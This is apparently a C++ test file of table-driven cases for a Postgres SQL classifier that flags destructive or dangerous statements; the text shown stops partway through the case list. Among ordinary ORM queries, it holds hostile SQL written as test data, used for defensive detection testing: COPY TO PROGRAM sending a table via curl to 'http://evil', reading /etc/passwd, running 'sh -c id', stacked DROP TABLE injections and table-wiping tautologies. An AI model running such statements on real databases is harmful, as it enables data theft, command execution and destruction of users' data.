// Table-driven classification cases. Every expectation here is written from what the SQL does
// in Postgres, not from what the classifier printed.
//
// classes:  "=a,b" exact set; "+a,b" must contain; "-c,d" must not contain (tokens combine).
// tables:   "w:t r:u d:v" must be present with that access; "!x" no table named x at all;
//           a leading "=" means the listed set is exact.
// For a multi-statement string, classes/tables are checked on the union of all statements.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "parser/classify.h"

namespace pgmoat::parser {
namespace {

struct Case {
  const char* name;
  const char* sql;
  const char* classes;
  const char* tables = "";
  const char* target = nullptr;  // nullptr: not checked (first statement)
  const char* functions = "";    // must contain (union)
  int statements = 1;            // -1: not checked
  int opaque = -1;               // -1: not checked; else expected Statement::opaque (any)
  const char* object_type = nullptr;
  const char* command = nullptr;
};

void PrintTo(const Case& c, std::ostream* os) {
  *os << c.sql;
}

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::string cur;
  for (char c : s) {
    if (c == sep) {
      if (!cur.empty()) out.push_back(cur);
      cur.clear();
    } else {
      cur += c;
    }
  }
  if (!cur.empty()) out.push_back(cur);
  return out;
}

char access_char(Access a) {
  return a == Access::read ? 'r' : (a == Access::write ? 'w' : 'd');
}

// clang-format off
const Case kCases[] = {
  // ---- ordinary application traffic stays plain -------------------------------------------
  {"select_literal", "SELECT 1", "=select", "="},
  {"select_now", "SELECT now()", "=select", "=", nullptr, "now"},
  {"select_from_table", "SELECT id, email FROM users WHERE id = 42", "=select", "=r:users", "users"},
  {"select_schema_qualified", "SELECT * FROM public.users", "=select", "=r:public.users", "public.users"},
  {"select_quoted_ident", "SELECT * FROM \"Users\"", "=select", "=r:Users"},
  {"select_join", "SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id", "=select", "=r:users r:orders"},
  {"select_left_join_three", "SELECT * FROM a LEFT JOIN b ON a.id = b.a_id LEFT JOIN c ON c.id = b.c_id", "=select", "=r:a r:b r:c"},
  {"select_subquery_in_where", "SELECT * FROM orders WHERE user_id IN (SELECT id FROM users WHERE banned)", "=select", "=r:orders r:users"},
  {"select_exists", "SELECT 1 FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.id = a.id)", "=select", "=r:a r:b"},
  {"select_union", "SELECT id FROM a UNION ALL SELECT id FROM b", "=select", "=r:a r:b"},
  {"select_intersect", "SELECT id FROM a INTERSECT SELECT id FROM b", "=select", "=r:a r:b"},
  {"select_for_update", "SELECT * FROM jobs WHERE state = 'queued' FOR UPDATE SKIP LOCKED LIMIT 1", "=select", "=r:jobs"},
  {"select_lateral", "SELECT * FROM users u, LATERAL (SELECT * FROM orders o WHERE o.user_id = u.id LIMIT 3) x", "=select", "=r:users r:orders"},
  {"select_window", "SELECT id, row_number() OVER (PARTITION BY g ORDER BY id) FROM t", "=select", "=r:t", nullptr, "row_number"},
  {"select_group_having", "SELECT g, count(*) FROM t GROUP BY g HAVING count(*) > 1", "=select", "=r:t", nullptr, "count"},
  {"select_values", "VALUES (1, 'a'), (2, 'b')", "=select", "="},
  {"select_table_function", "SELECT * FROM generate_series(1, 10) g", "=select", "=", nullptr, "generate_series"},
  {"select_json_ops", "SELECT data->>'name' FROM docs WHERE data @> '{\"a\":1}'", "=select", "=r:docs"},
  {"select_param_placeholders", "SELECT * FROM users WHERE email = $1 AND tenant_id = $2", "=select", "=r:users"},
  {"select_cte_read_only", "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", "=select", "=r:orders !recent"},
  {"select_distinct_on", "SELECT DISTINCT ON (user_id) * FROM events ORDER BY user_id, at DESC", "=select", "=r:events"},
  {"select_case_coalesce", "SELECT CASE WHEN a IS NULL THEN coalesce(b, 0) ELSE a END FROM t", "=select", "=r:t"},
  {"select_three_part_name", "SELECT * FROM mydb.public.users", "=select", "=r:mydb.public.users"},
  {"orm_prisma_select", "SELECT \"public\".\"User\".\"id\", \"public\".\"User\".\"email\" FROM \"public\".\"User\" WHERE \"public\".\"User\".\"id\" = $1 LIMIT $2 OFFSET $3", "=select", "=r:public.User"},
  {"orm_prisma_insert_returning", "INSERT INTO \"public\".\"User\" (\"email\",\"name\") VALUES ($1,$2) RETURNING \"public\".\"User\".\"id\"", "=insert", "=w:public.User", "public.User"},
  {"orm_prisma_update_by_id", "UPDATE \"public\".\"User\" SET \"name\" = $1 WHERE (\"public\".\"User\".\"id\" = $2 AND 1=1) RETURNING \"public\".\"User\".\"id\"", "=update", "=w:public.User"},
  {"orm_prisma_delete_by_id", "DELETE FROM \"public\".\"Post\" WHERE (\"public\".\"Post\".\"id\" = $1 AND 1=1)", "=delete", "=w:public.Post"},
  {"orm_django_select", "SELECT \"auth_user\".\"id\", \"auth_user\".\"username\" FROM \"auth_user\" WHERE \"auth_user\".\"username\" = 'bob' LIMIT 21", "=select", "=r:auth_user"},
  {"orm_django_update", "UPDATE \"auth_user\" SET \"last_login\" = '2024-01-01T00:00:00'::timestamptz WHERE \"auth_user\".\"id\" = 1", "=update", "=w:auth_user"},
  {"orm_rails_insert", "INSERT INTO \"users\" (\"name\", \"created_at\", \"updated_at\") VALUES ($1, $2, $3) RETURNING \"id\"", "=insert", "=w:users"},
  {"orm_rails_delete_by_id", "DELETE FROM \"sessions\" WHERE \"sessions\".\"id\" = $1", "=delete", "=w:sessions"},
  {"orm_hibernate_sequence", "select nextval ('hibernate_sequence')", "=select", "=", nullptr, "nextval"},
  {"orm_sqlalchemy_ping", "SELECT 1", "=select"},
  {"orm_upsert_on_conflict", "INSERT INTO counters (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + EXCLUDED.v", "=insert", "w:counters"},
  {"orm_upsert_do_nothing", "INSERT INTO tags (name) VALUES ($1) ON CONFLICT DO NOTHING", "=insert", "=w:tags"},
  {"orm_schema_introspection", "SELECT c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public'", "=select", "=r:pg_catalog.pg_class r:pg_catalog.pg_namespace"},
  {"orm_knex_migrations_lock", "select * from \"knex_migrations_lock\" where \"is_locked\" = 0 for update", "=select", "=r:knex_migrations_lock"},
  {"pgbench_select", "SELECT abalance FROM pgbench_accounts WHERE aid = 4821;", "=select", "=r:pgbench_accounts"},
  {"pgbench_update_accounts", "UPDATE pgbench_accounts SET abalance = abalance + -4049 WHERE aid = 4821;", "=update", "=w:pgbench_accounts", "pgbench_accounts"},
  {"pgbench_update_tellers", "UPDATE pgbench_tellers SET tbalance = tbalance + 17 WHERE tid = 3;", "=update", "=w:pgbench_tellers"},
  {"pgbench_update_branches", "UPDATE pgbench_branches SET bbalance = bbalance + 17 WHERE bid = 1;", "=update", "=w:pgbench_branches"},
  {"pgbench_insert_history", "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 4821, 17, CURRENT_TIMESTAMP);", "=insert", "=w:pgbench_history"},
  {"pgbench_begin", "BEGIN;", "=transaction", "=", nullptr, "", 1, -1, nullptr, "BEGIN"},
  {"pgbench_end", "END;", "=transaction", "=", nullptr, "", 1, -1, nullptr, "COMMIT"},
  {"pgbench_tpcb_script", "BEGIN; UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 1; SELECT abalance FROM pgbench_accounts WHERE aid = 1; UPDATE pgbench_tellers SET tbalance = tbalance + 5 WHERE tid = 1; INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 1, 5, CURRENT_TIMESTAMP); END;",
   "=transaction,update,select,insert", "w:pgbench_accounts r:pgbench_accounts w:pgbench_tellers w:pgbench_history", nullptr, "", 6},

  // ---- strings and comments that merely mention destructive words --------------------------
  {"string_contains_drop_table", "SELECT 'DROP TABLE users'", "=select", "="},
  {"string_contains_semicolon_and_drop", "SELECT 'x; DROP TABLE users; --'", "=select", "=", nullptr, "", 1},
  {"string_with_doubled_quote_and_drop", "SELECT 'it''s; DROP TABLE users'", "=select", "=", nullptr, "", 1},
  {"insert_string_with_delete", "INSERT INTO notes (body) VALUES ('please DELETE FROM users; thanks')", "=insert", "=w:notes", nullptr, "", 1},
  {"update_string_with_truncate", "UPDATE notes SET body = 'TRUNCATE audit' WHERE id = 3", "=update", "=w:notes"},
  {"line_comment_with_delete", "-- DELETE FROM users\nSELECT 1", "=select", "=", nullptr, "", 1},
  {"block_comment_with_drop", "/* DROP TABLE users; */ SELECT 1", "=select", "=", nullptr, "", 1},
  {"trailing_comment_with_drop", "SELECT 1 -- ; DROP TABLE users", "=select", "=", nullptr, "", 1},
  {"trailing_block_comment_with_semicolons", "SELECT 1 /* ; DROP TABLE users; */", "=select", "=", nullptr, "", 1},
  {"dollar_quoted_drop", "SELECT $$DROP TABLE users$$", "=select", "=", nullptr, "", 1},
  {"dollar_tag_quoted_delete_with_semicolons", "SELECT $x$; DELETE FROM users; $x$", "=select", "=", nullptr, "", 1},
  {"escape_string_with_drop", "SELECT E'\\'; DROP TABLE users; --'", "=select", "=", nullptr, "", 1},
  {"unicode_string_with_drop", "SELECT U&'\\0044ROP TABLE users'", "=select", "=", nullptr, "", 1},
  {"quoted_identifier_named_drop", "SELECT \"drop table users\" FROM t", "=select", "=r:t"},
  {"column_named_delete", "SELECT \"delete\", \"truncate\" FROM flags", "=select", "=r:flags"},
  {"table_named_like_keyword", "SELECT * FROM \"delete\"", "=select", "=r:delete"},
  {"string_mentions_session_replication_role", "SELECT 'session_replication_role'", "=select", "="},
  {"jsonb_with_sql_text", "INSERT INTO logs (payload) VALUES ('{\"q\": \"DROP SCHEMA public CASCADE\"}'::jsonb)", "=insert", "=w:logs"},
  {"like_pattern_with_delete", "SELECT * FROM audit WHERE stmt LIKE 'DELETE%'", "=select", "=r:audit"},

  // ---- lexical tricks never change the answer ----------------------------------------------
  {"lower_case_delete", "delete from users", "=delete,delete_without_where", "=w:users", "users"},
  {"mixed_case_delete", "dElEtE fRoM UsErS", "=delete,delete_without_where", "=w:users", "users"},
  {"comment_between_delete_keywords", "DELETE /* harmless */ FROM users", "=delete,delete_without_where", "=w:users"},
  {"nested_comment_between_keywords", "DELETE /* outer /* inner */ still comment */ FROM users", "=delete,delete_without_where", "=w:users"},
  {"line_comment_between_keywords", "DROP -- nothing to see\nTABLE users", "=drop", "=d:users", "users"},
  {"newlines_and_tabs", "\n\t  TRUNCATE\n\tTABLE\n users\t;\n", "=truncate", "=w:users", "users"},
  {"leading_comment_then_drop", "/* routine cleanup */ DROP TABLE users", "=drop", "=d:users"},
  {"unicode_escape_identifier_drop", "DROP TABLE U&\"\\0075sers\"", "=drop", "=d:users", "users"},
  {"unicode_escape_identifier_custom_escape", "DELETE FROM U&\"!0075sers\" UESCAPE '!'", "=delete,delete_without_where", "=w:users"},
  {"quoted_identifier_delete", "DELETE FROM \"users\"", "=delete,delete_without_where", "=w:users"},
  {"quoted_mixed_case_table", "DELETE FROM \"Users\"", "=delete,delete_without_where", "=w:Users"},
  {"quoted_schema_and_table", "TRUNCATE \"public\".\"users\"", "=truncate", "=w:public.users", "public.users"},
  {"extra_parentheses_select", "((SELECT 1))", "=select"},
  {"semicolons_only_around", ";;DELETE FROM users;;", "=delete,delete_without_where", "=w:users", nullptr, "", 1},
  {"dollar_quoted_where_string", "DELETE FROM users WHERE name = $q$O'Brien$q$", "=delete", "=w:users"},
  {"escape_string_in_where", "DELETE FROM users WHERE name = E'a\\'b'", "=delete", "=w:users"},
  {"drop_hidden_after_string_with_semicolon", "SELECT 'a;b'; DROP TABLE users", "+select,drop", "d:users", nullptr, "", 2},
  {"drop_after_dollar_block", "SELECT $$ ; $$; DROP TABLE users", "+select,drop", "d:users", nullptr, "", 2},
  {"drop_after_comment_with_quote", "SELECT 1 /* it's */; DROP TABLE users", "+select,drop", "d:users", nullptr, "", 2},

  // ---- multi-statement strings --------------------------------------------------------------
  {"select_then_drop", "SELECT 1; DROP TABLE users", "=select,drop", "d:users", nullptr, "", 2},
  {"begin_delete_commit", "BEGIN; DELETE FROM users; COMMIT;", "=transaction,delete,delete_without_where", "=w:users", nullptr, "", 3},
  {"many_harmless_then_truncate", "SELECT 1; SELECT 2; SET x.y = 1; TRUNCATE audit", "=select,set,truncate", "w:audit", nullptr, "", 4},
  {"set_then_update_all", "SET statement_timeout = 0; UPDATE users SET active = false", "=set,update,update_without_where", "w:users", nullptr, "", 2},

  // ---- delete / update and their WHERE ------------------------------------------------------
  {"delete_no_where", "DELETE FROM users", "=delete,delete_without_where", "=w:users", "users", "", 1, 0, nullptr, "DELETE"},
  {"delete_schema_qualified", "DELETE FROM public.users", "=delete,delete_without_where", "=w:public.users", "public.users"},
  {"delete_with_where", "DELETE FROM users WHERE id = 7", "=delete", "=w:users", "users"},
  {"delete_where_param", "DELETE FROM users WHERE id = $1", "=delete", "=w:users"},
  {"delete_where_true", "DELETE FROM users WHERE true", "=delete,delete_without_where", "=w:users"},
  {"delete_where_TRUE_upper", "DELETE FROM users WHERE TRUE", "=delete,delete_without_where"},
  {"delete_where_1_eq_1", "DELETE FROM users WHERE 1=1", "=delete,delete_without_where"},
  {"delete_where_string_eq", "DELETE FROM users WHERE 'a'='a'", "=delete,delete_without_where"},
  {"delete_where_1_eq_1_or_x", "DELETE FROM users WHERE 1=1 OR id = 5", "=delete,delete_without_where"},
  {"delete_where_x_or_1_eq_1", "DELETE FROM users WHERE id = 5 OR 1=1", "=delete,delete_without_where"},
  {"delete_where_not_false", "DELETE FROM users WHERE NOT false", "=delete,delete_without_where"},
  {"delete_where_not_1_eq_2", "DELETE FROM users WHERE NOT (1 = 2)", "=delete,delete_without_where"},
  {"delete_where_true_and_true", "DELETE FROM users WHERE true AND 1 = 1", "=delete,delete_without_where"},
  {"delete_where_parenthesized_true", "DELETE FROM users WHERE ((1 = 1))", "=delete,delete_without_where"},
  {"delete_where_2_gt_1", "DELETE FROM users WHERE 2 > 1", "=delete,delete_without_where"},
  {"delete_where_1_ne_2", "DELETE FROM users WHERE 1 <> 2", "=delete,delete_without_where"},
  {"delete_where_1_bang_eq_2", "DELETE FROM users WHERE 1 != 2", "=delete,delete_without_where"},
  {"delete_where_negative_eq", "DELETE FROM users WHERE -1 = -1", "=delete,delete_without_where"},
  {"delete_where_zero_eq_zero", "DELETE FROM users WHERE 0 = 0", "=delete,delete_without_where"},
  {"delete_where_one_eq_string_one", "DELETE FROM users WHERE 1 = '1'", "=delete,delete_without_where"},
  {"delete_where_cast_true", "DELETE FROM users WHERE 't'::boolean", "=delete,delete_without_where"},
  {"delete_where_cast_func_syntax", "DELETE FROM users WHERE CAST('yes' AS boolean)", "=delete,delete_without_where"},
  {"delete_where_string_true_literal", "DELETE FROM users WHERE 'true'", "=delete,delete_without_where"},
  {"delete_where_null_is_null", "DELETE FROM users WHERE NULL IS NULL", "=delete,delete_without_where"},
  {"delete_where_one_is_not_null", "DELETE FROM users WHERE 1 IS NOT NULL", "=delete,delete_without_where"},
  {"delete_where_true_is_true", "DELETE FROM users WHERE true IS TRUE", "=delete,delete_without_where"},
  {"delete_where_one_in_list", "DELETE FROM users WHERE 1 IN (1, 2, 3)", "=delete,delete_without_where"},
  {"delete_where_float_compare", "DELETE FROM users WHERE 1.5 < 2.5", "=delete,delete_without_where"},
  {"delete_where_arithmetic_true", "DELETE FROM users WHERE 1 + 1 = 2", "=delete,delete_without_where"},
  {"update_where_arithmetic_false", "UPDATE users SET a = 1 WHERE 2 * 3 = 7", "=update"},
  {"explain_analyze_zero_is_plain", "EXPLAIN (ANALYZE 0) DELETE FROM users", "=other"},
  {"delete_where_self_compare", "DELETE FROM users WHERE id = id", "=delete,delete_without_where"},
  {"delete_where_false", "DELETE FROM users WHERE false", "=delete", "=w:users"},
  {"delete_where_1_eq_2", "DELETE FROM users WHERE 1 = 2", "=delete"},
  {"delete_where_null", "DELETE FROM users WHERE NULL", "=delete"},
  {"delete_where_not_true", "DELETE FROM users WHERE NOT true", "=delete"},
  {"delete_where_minus_one_eq_zero", "DELETE FROM users WHERE -1 = 0", "=delete"},
  {"delete_where_true_and_condition", "DELETE FROM users WHERE 1=1 AND id = 5", "=delete"},
  {"delete_where_not_in_list", "DELETE FROM products WHERE code NOT IN ('a', 'b')", "=delete", "=w:products"},
  {"delete_where_in_subquery", "DELETE FROM users WHERE id IN (SELECT user_id FROM bans)", "=delete", "=w:users r:bans"},
  {"delete_where_current_of", "DELETE FROM users WHERE CURRENT OF c", "=delete", "=w:users"},
  {"delete_where_column_bool", "DELETE FROM users WHERE is_spam", "=delete"},
  {"delete_where_one_in_list_no_match", "DELETE FROM users WHERE 5 IN (1, 2)", "=delete"},
  {"delete_using", "DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.banned", "=delete", "=w:orders r:users", "orders"},
  {"delete_using_no_where", "DELETE FROM orders USING users", "=delete,delete_without_where", "=w:orders r:users"},
  {"delete_returning", "DELETE FROM queue WHERE id = 1 RETURNING *", "=delete", "=w:queue"},
  {"delete_only", "DELETE FROM ONLY parent_t", "=delete,delete_without_where", "=w:parent_t"},
  {"delete_with_alias", "DELETE FROM users AS u", "=delete,delete_without_where", "=w:users"},
  {"update_no_where", "UPDATE users SET active = false", "=update,update_without_where", "=w:users", "users", "", 1, 0, nullptr, "UPDATE"},
  {"update_with_where", "UPDATE users SET active = false WHERE id = 3", "=update", "=w:users", "users"},
  {"update_where_true", "UPDATE users SET active = false WHERE true", "=update,update_without_where"},
  {"update_where_1_eq_1", "UPDATE users SET active = false WHERE 1 = 1", "=update,update_without_where"},
  {"update_where_a_eq_a_string", "UPDATE users SET active = false WHERE 'a' = 'a'", "=update,update_without_where"},
  {"update_where_or_true", "UPDATE users SET active = false WHERE 1=1 OR id = 2", "=update,update_without_where"},
  {"update_where_not_false", "UPDATE users SET active = false WHERE NOT false", "=update,update_without_where"},
  {"update_where_false", "UPDATE users SET active = false WHERE false", "=update"},
  {"update_from_other_table", "UPDATE orders SET status = 'x' FROM users WHERE users.id = orders.user_id", "=update", "=w:orders r:users", "orders"},
  {"update_from_no_where", "UPDATE orders SET status = 'x' FROM users", "=update,update_without_where", "=w:orders r:users"},
  {"update_subquery_in_set", "UPDATE t SET a = (SELECT max(a) FROM t) WHERE id = 1", "=update", "=w:t r:t", "t", "max"},
  {"update_schema_qualified_no_where", "UPDATE billing.invoices SET paid = true", "=update,update_without_where", "=w:billing.invoices", "billing.invoices"},
  {"update_returning", "UPDATE t SET n = n + 1 WHERE id = 1 RETURNING n", "=update", "=w:t"},
  {"insert_values", "INSERT INTO t (a) VALUES (1)", "=insert", "=w:t", "t", "", 1, 0, nullptr, "INSERT"},
  {"insert_select", "INSERT INTO archive SELECT * FROM events WHERE at < now()", "=insert", "=w:archive r:events", "archive"},
  {"insert_default_values", "INSERT INTO t DEFAULT VALUES", "=insert", "=w:t"},
  {"insert_multi_row", "INSERT INTO t (a, b) VALUES (1, 2), (3, 4)", "=insert", "=w:t"},
  {"merge_basic", "MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name WHEN NOT MATCHED THEN INSERT (id, name) VALUES (s.id, s.name)", "=merge", "=w:customers r:staging", "customers", "", 1, -1, nullptr, "MERGE"},
  {"merge_delete", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "=merge", "=w:t r:s", "t"},

  // ---- data-modifying CTEs ------------------------------------------------------------------
  {"cte_delete_then_select", "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "=select,delete,delete_without_where", "=w:users", "users"},
  {"cte_delete_with_where", "WITH d AS (DELETE FROM users WHERE id = 1 RETURNING id) SELECT count(*) FROM d", "=select,delete", "=w:users"},
  {"cte_update_then_select", "WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT id FROM u", "=select,update,update_without_where", "=w:accounts", "accounts"},
  {"cte_insert_then_select", "WITH i AS (INSERT INTO log (m) VALUES ('x') RETURNING id) SELECT id FROM i", "=select,insert", "=w:log"},
  {"cte_delete_into_insert", "WITH moved AS (DELETE FROM events WHERE at < '2020-01-01' RETURNING *) INSERT INTO events_archive SELECT * FROM moved", "=insert,delete", "=w:events w:events_archive !moved"},
  {"cte_nested_in_subquery", "SELECT * FROM (WITH d AS (DELETE FROM users RETURNING id) SELECT id FROM d) s", "+select,delete,delete_without_where", "w:users !d"},
  {"cte_second_cte_deletes", "WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING 1) SELECT * FROM a, b", "=select,delete,delete_without_where", "=w:t"},
  {"cte_in_update_reading", "WITH ids AS (SELECT id FROM stale) UPDATE items SET gone = true WHERE id IN (SELECT id FROM ids)", "=update", "=w:items r:stale", "items"},
  {"cte_name_shadows_table", "WITH users AS (SELECT 1 AS id) SELECT * FROM users", "=select", "="},
  {"cte_shadow_only_unqualified", "WITH users AS (SELECT 1 AS id) SELECT * FROM public.users", "=select", "=r:public.users"},
  {"cte_body_reads_real_table_of_same_name", "WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users", "=select", "=r:users"},
  {"cte_scope_ends_with_subquery", "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", "=select", "=r:x"},
  {"cte_later_sees_earlier", "WITH a AS (SELECT 1 AS n), b AS (SELECT * FROM a) SELECT * FROM b", "=select", "="},
  {"cte_earlier_does_not_see_later", "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "=select", "=r:b"},
  {"cte_recursive_self_reference", "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT * FROM t", "=select", "="},
  {"cte_shadowed_delete_target_is_table", "WITH users AS (SELECT 1) DELETE FROM accounts WHERE id IN (SELECT id FROM users)", "=delete", "=w:accounts"},

  // ---- EXPLAIN -----------------------------------------------------------------------------
  {"explain_delete_does_not_execute", "EXPLAIN DELETE FROM users", "=other", "", nullptr, "", 1, -1, nullptr, "EXPLAIN"},
  {"explain_drop_like_select", "EXPLAIN SELECT * FROM users", "=other"},
  {"explain_verbose_update", "EXPLAIN (VERBOSE, COSTS OFF) UPDATE users SET a = 1", "=other"},
  {"explain_analyze_false_delete", "EXPLAIN (ANALYZE false) DELETE FROM users", "=other"},
  {"explain_analyze_off_delete", "EXPLAIN (ANALYZE off) DELETE FROM users", "=other"},
  {"explain_analyze_delete_executes", "EXPLAIN ANALYZE DELETE FROM users", "=delete,delete_without_where", "=w:users", "users", "", 1, -1, nullptr, "EXPLAIN ANALYZE"},
  {"explain_analyze_option_list", "EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", "=update,update_without_where", "=w:users"},
  {"explain_analyze_true_option", "EXPLAIN (ANALYZE true, FORMAT JSON) DELETE FROM users WHERE id = 1", "=delete", "=w:users"},
  {"explain_analyze_on_option", "EXPLAIN (FORMAT TEXT, ANALYZE on) INSERT INTO t VALUES (1)", "=insert", "=w:t"},
  {"explain_analyze_verbose_select", "EXPLAIN ANALYZE VERBOSE SELECT * FROM t", "=select", "=r:t"},
  {"explain_analyze_cte_delete", "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "=select,delete,delete_without_where", "=w:t"},
  {"explain_analyze_ctas", "EXPLAIN ANALYZE CREATE TABLE copy_t AS SELECT * FROM t", "=ddl,select", "d:copy_t r:t"},
  {"explain_lowercase_analyse_spelling", "explain analyse delete from users", "=delete,delete_without_where"},

  // ---- PREPARE / EXECUTE / DECLARE ---------------------------------------------------------
  {"prepare_delete_all", "PREPARE wipe AS DELETE FROM users", "=delete,delete_without_where", "=w:users", "users", "", 1, -1, nullptr, "PREPARE"},
  {"prepare_delete_param", "PREPARE del (int) AS DELETE FROM users WHERE id = $1", "=delete", "=w:users"},
  {"prepare_select", "PREPARE q (int) AS SELECT * FROM users WHERE id = $1", "=select", "=r:users"},
  {"prepare_update_all", "PREPARE u AS UPDATE users SET role = 'admin'", "=update,update_without_where"},
  {"prepare_insert", "PREPARE ins (text) AS INSERT INTO t (a) VALUES ($1)", "=insert", "=w:t"},
  {"prepare_cte_delete", "PREPARE p AS WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", "=select,delete,delete_without_where"},
  {"execute_prepared", "EXECUTE wipe", "=other", "=", "wipe"},
  {"deallocate", "DEALLOCATE wipe", "=other", "=", "wipe"},
  {"deallocate_all", "DEALLOCATE ALL", "=other", "=", ""},
  {"declare_cursor", "DECLARE c CURSOR FOR SELECT * FROM big", "=select", "=r:big"},
  {"fetch_cursor", "FETCH 100 FROM c", "=other"},

  // ---- CREATE RULE ---------------------------------------------------------------------------
  {"rule_do_also_delete", "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit", "=ddl,delete,delete_without_where", "d:t w:audit", "t", "", 1, -1, "rule"},
  {"rule_do_instead_nothing", "CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING", "=ddl", "=d:t"},
  {"rule_multiple_actions", "CREATE RULE r AS ON UPDATE TO t DO ALSO (DELETE FROM u WHERE id = 1; UPDATE v SET a = 1)", "=ddl,delete,update,update_without_where", "d:t w:u w:v", nullptr, "", 1},
  {"rule_instead_insert", "CREATE OR REPLACE RULE r AS ON INSERT TO v DO INSTEAD INSERT INTO t VALUES (NEW.a)", "=ddl,insert", "d:v w:t"},
  {"rule_select_view", "CREATE RULE \"_RETURN\" AS ON SELECT TO v DO INSTEAD SELECT * FROM t", "=ddl,select", "d:v r:t"},

  // ---- CREATE TABLE AS / SELECT INTO -------------------------------------------------------
  {"ctas", "CREATE TABLE backup AS SELECT * FROM users", "=ddl,select", "=d:backup r:users", "backup"},
  {"ctas_with_no_data", "CREATE TABLE IF NOT EXISTS b2 AS TABLE users WITH NO DATA", "=ddl,select", "d:b2 r:users"},
  {"ctas_from_cte_delete", "CREATE TABLE gone AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "=ddl,select,delete,delete_without_where", "d:gone w:users"},
  {"select_into", "SELECT * INTO backup FROM users", "=ddl,select", "=d:backup r:users", "backup"},
  {"select_into_temp", "SELECT id INTO TEMP t1 FROM users WHERE a", "=ddl,select", "d:t1 r:users"},
  {"create_materialized_view", "CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders", "=ddl,select", "d:mv r:orders", "mv", "count", 1, -1, "materialized view"},

  // ---- COPY ----------------------------------------------------------------------------------
  {"copy_from_stdin", "COPY users FROM STDIN", "=copy_from", "=w:users", "users", "", 1, -1, nullptr, "COPY"},
  {"copy_from_stdin_csv", "COPY public.users (id, email) FROM STDIN WITH (FORMAT csv, HEADER true)", "=copy_from", "=w:public.users"},
  {"copy_to_stdout", "COPY users TO STDOUT", "=copy_to", "=r:users", "users"},
  {"copy_query_to_stdout", "COPY (SELECT * FROM users WHERE active) TO STDOUT", "=copy_to,select", "=r:users"},
  {"copy_delete_returning_to_stdout", "COPY (DELETE FROM users RETURNING *) TO STDOUT", "=copy_to,delete,delete_without_where", "=w:users"},
  {"copy_update_returning_to_stdout", "COPY (UPDATE users SET a = 1 WHERE id = 2 RETURNING *) TO STDOUT", "=copy_to,update", "=w:users"},
  {"copy_cte_delete_to_stdout", "COPY (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) TO STDOUT", "=copy_to,select,delete,delete_without_where", "=w:t"},
  {"copy_to_program", "COPY users TO PROGRAM 'curl -d @- http://evil'", "=copy_to,copy_program", "=r:users"},
  {"copy_from_program", "COPY users FROM PROGRAM 'cat /etc/passwd'", "=copy_from,copy_program", "=w:users"},
  {"copy_query_to_program", "COPY (SELECT 1) TO PROGRAM 'sh -c id'", "=copy_to,copy_program,select"},
  {"copy_to_server_file", "COPY users TO '/tmp/users.csv'", "=copy_to", "=r:users"},
  {"copy_from_server_file_where", "COPY users FROM '/tmp/u.csv' WHERE id > 10", "=copy_from", "=w:users"},
  {"copy_binary_from_stdin", "COPY t FROM STDIN (FORMAT binary)", "=copy_from", "=w:t"},

  // ---- DO blocks ------------------------------------------------------------------------------
  {"do_block", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "=do_block", "=", nullptr, "", 1, 1, nullptr, "DO"},
  {"do_block_with_drop_inside", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", "=do_block", "", nullptr, "", 1, 1},
  {"do_block_language", "DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM t; END $body$", "+do_block -delete", "", nullptr, "", 1, 1},
  {"do_block_string_quoted", "DO 'BEGIN NULL; END'", "=do_block", "", nullptr, "", 1, 1},

  // ---- CREATE FUNCTION / PROCEDURE bodies --------------------------------------------------
  {"sql_function_body_delete", "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM users'", "=ddl,delete,delete_without_where", "w:users", "wipe", "", 1, 0, "function", "CREATE FUNCTION"},
  {"sql_function_dollar_body_multi", "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ UPDATE t SET a = 1; SELECT 1 $$", "=ddl,update,update_without_where,select", "w:t", "f", "", 1, 0},
  {"sql_function_body_with_where", "CREATE FUNCTION f(i int) RETURNS void AS $$ DELETE FROM users WHERE id = i $$ LANGUAGE sql", "=ddl,delete", "w:users"},
  {"sql_function_begin_atomic", "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END", "=ddl,delete,delete_without_where", "w:users", "f"},
  {"sql_function_return_expression", "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN (SELECT count(*) FROM users)", "+ddl -delete,drop", "r:users", "f", "count"},
  {"sql_procedure_begin_atomic", "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC TRUNCATE audit; END", "+ddl", "", "p", "", 1, -1, "procedure", "CREATE PROCEDURE"},
